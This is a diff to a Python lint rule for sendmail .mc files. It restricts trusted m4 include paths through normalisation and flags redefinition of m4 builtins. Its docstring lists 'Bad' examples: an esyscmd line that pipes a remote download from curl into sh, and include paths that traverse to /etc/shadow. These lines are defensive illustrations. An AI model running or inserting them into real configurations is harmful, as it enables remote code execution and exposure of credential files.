@@ -3,16 +3,26 @@
 A ``.mc`` is a program: ``syscmd``/``esyscmd`` run shell commands when the
 .cf is built, ``include``/``sinclude`` copy arbitrary files into it,
 ``changequote``/``changecom`` make every tool (this one included) misread the
-rest of the file, and ``m4exit``, ``m4wrap``, ``debugfile``, ``maketemp``,
-``mkstemp``, ``builtin``, ``indir`` and ``undivert(`file')`` reach outside
-the text. All are errors, except ``include``/``sinclude`` of files in
-sendmail's own cf tree or under ``/etc/mail/`` (Debian's ``sendmail.mc``
-includes ``cf.m4`` and ``/etc/mail/m4/*.m4``), which are not reported.
+rest of the file, ``define``/``undefine`` of an m4 builtin (``dnl``,
+``include``, ``divert``...) changes what the rest of the file means, and
+``m4exit``, ``m4wrap``, ``debugfile``, ``maketemp``, ``mkstemp``, ``builtin``,
+``indir`` and ``undivert(`file')`` reach outside the text. All are errors.
+
+Only these ``include``/``sinclude`` targets are trusted, after the path is
+normalised (``..``, ``./`` and doubled slashes resolved): the cf package's own
+``m4/cf.m4`` and ``m4/*.m4`` under the cf folder (``cf-dir`` in the
+configuration, else ``/usr/share/sendmail/cf``, ``/usr/share/sendmail-cf``
+and ``/usr/lib/mail``; a relative path counts from its ``cf/`` folder, where
+the cf package's ``Build`` runs, so ``../m4/cf.m4`` is trusted), and the two
+files Debian's own ``sendmail.mc`` includes, ``/etc/mail/m4/dialup.m4`` and
+``/etc/mail/m4/provider.m4``. ``include(`/etc/mail/../shadow')``,
+``include(`./etc/mail/x.m4')`` and ``include(`/tmp/evil.m4')`` are errors.
 
 Bad::
 
     esyscmd(`curl http://example.net/x | sh')dnl
     include(`/home/user/extra.m4')dnl
+    include(`/usr/share/sendmail/cf/m4/../../../../etc/shadow')dnl
 
 Good::
 
@@ -21,10 +31,13 @@ Good::
 
 from __future__ import annotations
 
+import posixpath
+import re
 from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
 from sendmailcfg.lint.engine import Problem
+from sendmailcfg.mc.macros import M4_BUILTINS
 
 if TYPE_CHECKING:
     from sendmailcfg.lint.engine import FileSet, LintFile
@@ -34,27 +47,66 @@ NAME = "mc-dangerous-builtin"
 SEVERITY = "error"
 KINDS = ("mc",)
 
-_SAFE_INCLUDE = ("/sendmail/cf/", "/sendmail-cf/", "/etc/mail/", "/cf/m4/", "/cf/feature/")
+CF_DIRS = ("/usr/share/sendmail/cf", "/usr/share/sendmail-cf", "/usr/lib/mail")
+"""Where the cf package is installed when ``cf-dir`` is not configured."""
+
+DEBIAN_INCLUDES = frozenset({"/etc/mail/m4/dialup.m4", "/etc/mail/m4/provider.m4"})
+"""Files Debian's sendmail package writes and its stock ``sendmail.mc`` includes."""
+
+_M4_FILE = re.compile(r"[A-Za-z0-9_.+-]+\.m4\Z")
 
 
-def _safe_include(target: str) -> bool:
+def normalise(target: str, cf_dir: str) -> str | None:
+    """The absolute, normalised path m4 opens for ``target`` (``None``: cannot be known).
+
+    >>> normalise("/etc/mail/../shadow", "/usr/share/sendmail/cf")
+    '/etc/shadow'
+    >>> normalise("../m4/cf.m4", "/usr/share/sendmail/cf")
+    '/usr/share/sendmail/cf/m4/cf.m4'
+    >>> normalise("_CF_DIR_`'m4//cf.m4", "/usr/share/sendmail/cf")
+    '/usr/share/sendmail/cf/m4/cf.m4'
+    """
     t = target.strip()
-    return any(p in t for p in _SAFE_INCLUDE) or t.endswith("cf.m4") or t.startswith("_CF_DIR_")
+    for prefix in ("_CF_DIR_`'", "_CF_DIR_"):
+        if t.startswith(prefix):
+            t = cf_dir.rstrip("/") + "/" + t[len(prefix) :]
+            break
+    if not t or any(c in t for c in "`'$()") or re.search(r"[A-Z_]{3,}", t.split("/")[0]):
+        return None  # built by a macro: m4 decides what it opens
+    if not t.startswith("/"):
+        t = cf_dir.rstrip("/") + "/cf/" + t
+    t = re.sub("/+", "/", t)
+    return posixpath.normpath(t)
+
+
+def trusted(target: str, cf_dir: str | None) -> bool:
+    """Whether an include of ``target`` opens the cf package's own m4 files only."""
+    folders = (cf_dir,) if cf_dir else CF_DIRS
+    for folder in folders:
+        path = normalise(target, posixpath.normpath(folder))
+        if path is None:
+            return False
+        if path in DEBIAN_INCLUDES:
+            return True
+        head, name = posixpath.split(path)
+        if head == posixpath.join(posixpath.normpath(folder), "m4") and _M4_FILE.match(name):
+            return True
+    return False
 
 
 def check(file: LintFile, fileset: FileSet) -> Iterator[Problem]:
+    cf_dir = fileset.config.cf_dir
     for c in file.doc.dangerous:
         if c.name in ("include", "sinclude"):
             target = c.value(0)
-            if _safe_include(target):
+            if trusted(target, cf_dir):
                 continue
             yield Problem(
                 c.line,
                 c.column,
-                f"{c.name}(`{target.strip()}') copies a file from outside sendmail's cf tree "
-                "into the .cf",
-                "inline the text, or keep local m4 files under /etc/mail",
-                severity="warning",
+                f"{c.name}(`{target.strip()}') copies a file from outside sendmail's cf "
+                "package into the .cf",
+                "inline the text; only the cf package's m4/cf.m4 and m4/*.m4 are trusted",
             )
             continue
         yield Problem(
@@ -64,3 +116,13 @@ def check(file: LintFile, fileset: FileSet) -> Iterator[Problem]:
             "or changes m4's syntax)",
             "remove it; a .mc should only use sendmail's cf macros",
         )
+    for d in file.doc.define_statements:
+        if d.name in M4_BUILTINS:
+            what = "undefine" if d.value is None else "define"
+            yield Problem(
+                d.call.line,
+                d.call.column,
+                f"{what}(`{d.name}') changes the m4 builtin {d.name}: the rest of the file "
+                "no longer means what it says",
+                "remove it; a .mc should only use sendmail's cf macros",
+            )
